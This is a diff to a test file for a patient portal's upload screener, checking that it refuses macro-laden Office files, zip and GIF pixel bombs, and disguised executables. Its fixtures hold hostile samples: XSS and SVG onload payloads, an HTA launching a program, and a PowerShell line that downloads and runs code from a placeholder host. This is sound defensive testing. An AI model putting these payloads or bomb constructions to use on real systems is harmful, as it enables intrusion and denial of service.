@@ -23,21 +23,10 @@ from portal.messaging import actions, attachments
 from portal.messaging.actions import Where
 from portal.messaging.attachments import Upload, screen, sniff
 from portal.messaging.models import Attachment, Draft, Message
+from portal.messaging.tests import office
 from portal.messaging.tests.helpers import PDF, PNG_1x1, patient_writes
 
 pytestmark = pytest.mark.django_db
-
-
-def office_zip(main: str) -> bytes:
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w") as archive:
-        archive.writestr("[Content_Types].xml", "<Types/>")
-        archive.writestr(main, "<x/>")
-    return buffer.getvalue()
-
-
-def ole(stream: str) -> bytes:
-    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + stream.encode("utf-16-le") + b"\0" * 64
 
 
 def jpeg(width: int, height: int) -> bytes:
@@ -57,10 +46,10 @@ KINDS = {
     "GIF": (b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", attachments.GIF),
     "TXT": ("Plain words, accents é".encode(), attachments.TEXT),
     "RTF": (b"{\\rtf1\\ansi hello}", attachments.RTF),
-    "DOC": (ole("WordDocument"), attachments.DOC),
-    "XLS": (ole("Workbook"), attachments.XLS),
-    "DOCX": (office_zip("word/document.xml"), attachments.DOCX),
-    "XLSX": (office_zip("xl/workbook.xml"), attachments.XLSX),
+    "DOC": (office.word_97(), attachments.DOC),
+    "XLS": (office.excel_97(), attachments.XLS),
+    "DOCX": (office.docx(), attachments.DOCX),
+    "XLSX": (office.xlsx(), attachments.XLSX),
 }
 
 
@@ -77,7 +66,7 @@ def test_each_allowed_kind_is_known_by_its_bytes(kind: str) -> None:
         ("invoice.pdf", b"MZ\x90\x00 windows program"),
         ("photo.png", b"\x7fELF\x02\x01\x01"),
         ("notes.txt", b"binary\x00with nul"),
-        ("macro.docx", office_zip("word/document.xml")[:0] + b"PK\x03\x04broken"),
+        ("broken.docx", b"PK\x03\x04broken"),
         ("page.html", b"\xff\xfe<\x00h\x00"),
     ],
 )
@@ -87,13 +76,85 @@ def test_a_false_name_does_not_get_a_file_in(name: str, content: bytes) -> None:
     assert accepted == [] and refused[0].name == name and "cannot be sent" in refused[0].reason
 
 
-def test_macro_enabled_office_files_are_refused() -> None:
+VBA_RELATIONSHIP = (
+    '<Relationships><Relationship Id="r1" Target="stuff.bin" '
+    'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"/></Relationships>'
+)
+MACRO_FILES = {
+    "Word 97 with a Macros storage": office.word_97(macros=True),
+    "Excel 97 with _VBA_PROJECT_CUR": office.excel_97(macros=True),
+    "DOCX with vbaProject.bin": office.docx(extra={"word/vbaProject.bin": "macro"}),
+    "DOCM declared macro-enabled": office.office_zip(
+        "word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
+    ),
+    "DOCX with a renamed VBA part": office.docx(
+        extra={"word/_rels/document.xml.rels": VBA_RELATIONSHIP, "word/stuff.bin": "macro"}
+    ),
+    "XLSX declaring a VBA content type": office.xlsx(
+        types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
+        extra={"xl/stuff.bin": "macro"},
+    ),
+}
+
+
+@pytest.mark.parametrize("kind", list(MACRO_FILES))
+def test_office_files_with_macros_are_refused_however_they_hide_them(kind: str) -> None:
+    assert sniff(MACRO_FILES[kind]) is None
+
+
+def test_a_compound_file_that_is_not_word_or_excel_is_refused() -> None:
+    """An installer or Outlook item is a compound file too; "Book" in a stream name is not Excel."""
+    assert sniff(office.compound_file({"AddressBook": b"x", "SummaryInformation": b"y"})) is None
+    assert sniff(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "Workbook".encode("utf-16-le")) is None
+
+
+def test_an_office_zip_bomb_is_refused() -> None:
+    """A 100 KB DOCX that unpacks to 200 MB is not a letter."""
     buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w") as archive:
-        archive.writestr("[Content_Types].xml", "<Types/>")
-        archive.writestr("word/document.xml", "<x/>")
-        archive.writestr("word/vbaProject.bin", "macro")
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr(
+            "[Content_Types].xml", zipfile.ZipFile(io.BytesIO(office.docx())).read("[Content_Types].xml")
+        )
+        archive.writestr("word/document.xml", "<document/>")
+        archive.writestr("word/media/padding.bin", b"\0" * (200 * 1024 * 1024))
+    assert len(buffer.getvalue()) < 1024 * 1024
     assert sniff(buffer.getvalue()) is None
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("lab-results.html", b"<html><body><script>alert(document.domain)</script></body></html>"),
+        ("chart.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
+        ("update.hta", b'<script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>'),
+        ("fix.bat", b"@echo off\r\npowershell -c iex(iwr http://example.invalid)\r\n"),
+        ("invoice.js", b"WScript.Echo('x')"),
+        ("scan.pdf.exe", PDF),
+    ],
+)
+def test_a_file_named_as_a_kind_we_refuse_is_refused_whatever_it_holds(name: str, content: bytes) -> None:
+    """Text named .hta runs when a nurse opens it: the name's ending is checked as well as the bytes."""
+    accepted, refused = screen([Upload(name, content)], kept=[])
+    assert accepted == []
+    assert refused[0].name == name
+    assert f"names end in .{name.rsplit('.', 1)[1]} cannot be sent" in refused[0].reason
+    assert "a text file ends in .txt" in refused[0].reason
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "kept_as"),
+    [
+        ("notes", b"plain words", "notes.txt"),
+        ("Dr. Smith letter", b"plain words", "Dr. Smith letter.txt"),
+        ("photo.jpg", PNG_1x1, "photo.png"),
+        ("REPORT.PDF", PDF, "REPORT.PDF"),
+        ("picture.jpeg", jpeg(10, 10), "picture.jpeg"),
+    ],
+)
+def test_a_file_keeps_a_name_that_ends_as_its_bytes_say(name: str, content: bytes, kept_as: str) -> None:
+    accepted, refused = screen([Upload(name, content)], kept=[])
+    assert refused == []
+    assert [a.name for a in accepted] == [kept_as]
 
 
 def test_limits_empty_and_duplicates_each_named_with_a_reason(settings: Any) -> None:
@@ -135,6 +196,30 @@ def test_pictures_over_the_pixel_limit_are_refused(settings: Any) -> None:
     )
     assert [u.name for u in accepted] == ["fine.jpg"]
     assert refused[0].name == "huge.png" and "too many pixels" in refused[0].reason
+
+
+def gif(screen: tuple[int, int], frames: list[tuple[int, int]]) -> bytes:
+    """A GIF89a with a global colour table, a comment extension and the given frames."""
+    out = b"GIF89a" + struct.pack("<HHBBB", *screen, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
+    out += b"\x21\xfe\x05hello\x00"
+    for width, height in frames:
+        out += b"\x2c" + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02\x02\x44\x01\x00"
+    return out + b"\x3b"
+
+
+def test_a_gif_is_measured_by_its_frames_not_only_its_screen(settings: Any) -> None:
+    """A 1x1 screen holding a 60,000 x 60,000 frame, or 500 frames of 100 x 100, is too big."""
+    settings.PORTAL_ATTACHMENT_MAX_PIXELS = 1_000_000
+    files = [
+        Upload("tiny-screen.gif", gif((1, 1), [(60000, 60000)])),
+        Upload("many-frames.gif", gif((100, 100), [(100, 100)] * 500)),
+        Upload("truncated.gif", gif((10, 10), [(10, 10)])[:-12]),
+        Upload("fine.gif", gif((300, 200), [(300, 200)] * 3)),
+    ]
+    accepted, refused = screen(files, kept=[])
+    assert [u.name for u in accepted] == ["fine.gif"]
+    assert [r.name for r in refused] == ["tiny-screen.gif", "many-frames.gif", "truncated.gif"]
+    assert all("too many pixels" in r.reason for r in refused)
 
 
 def flag_eicar(content: bytes) -> str | None:
